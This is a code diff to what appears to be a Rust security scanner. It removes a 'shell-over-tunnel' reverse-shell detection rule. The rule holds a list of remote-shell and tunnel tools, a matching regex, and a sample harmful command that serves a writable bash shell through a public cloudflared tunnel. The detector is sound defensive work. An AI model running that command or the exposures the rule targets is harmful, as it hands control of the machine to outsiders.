@@ -208,34 +208,6 @@ fn is_no_lease(matched: &str) -> bool {
     !matched.contains("--merged") && !matched.contains("lease") && !matched.contains("gone]")
 }
 
-const TUNNEL: Rule = Rule {
-    id: "shell-over-tunnel",
-    category: "reverse-shell",
-    message: "lets somebody else use this machine over a tunnel",
-    remedy: "remove it; no skill needs one",
-    literals: &[
-        "ttyd ",
-        "gotty ",
-        "tmate",
-        "sshx",
-        "ngrok tcp",
-        "bore local",
-        "gs-netcat",
-        "frpc",
-        "wetty",
-        "upterm ",
-        "rustdesk",
-        "anydesk",
-    ],
-    pattern: concat!(
-        r"\b(?:ttyd|gotty|wetty)\s[^\n]{0,60}\b(?:bash|zsh|sh|login)\b[^\n]{0,200}(?:tunnel|ngrok|curl|0\.0\.0\.0|&)|\btmate\s{1,2}(?:-\w\s|new-session)[^\n]{0,120}(?:curl|display\s{1,2}-p|-F)|\b(?:sshx|upterm\s{1,2}host)\b[^\n]{0,80}(?:&|>|curl|\|)|\bngrok\s{1,2}tcp\s[^\n]{0,20}\b(?:22|3389|5900)\b",
-        r"|\bbore\s{1,2}local\s{1,2}(?:22|3389|5900)\b|\bgs-netcat\s[^\n]{0,40}-\w{0,4}[il]|\b(?:rustdesk|anydesk)\b[^\n]{0,40}--(?:password|set-password|service)",
-    ),
-    harmful: &[("SKILL.md", "```bash\nttyd -p 7681 -W bash & cloudflared tunnel --url http://localhost:7681\n```\n")],
-    harmless: &[("a.sh", "ngrok http 3000\ntmux new-session -d")],
-    ..BASE
-};
-
 const CONNECTED: Rule = Rule {
     id: "shell-on-connection",
     category: "reverse-shell",
@@ -345,6 +317,5 @@ const PRELOADED: Rule = Rule {
 };
 
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] = &[
-    PLAYBOOK, ANONYMOUS, ACCOUNTS, KEYS_MADE, WIPED, ROOTS, PUSHED, TUNNEL, CONNECTED, HOME_OTHER, COMPOSED, PRELOADED,
-];
+pub(crate) const RULES: &[Rule] =
+    &[PLAYBOOK, ANONYMOUS, ACCOUNTS, KEYS_MADE, WIPED, ROOTS, PUSHED, CONNECTED, HOME_OTHER, COMPOSED, PRELOADED];
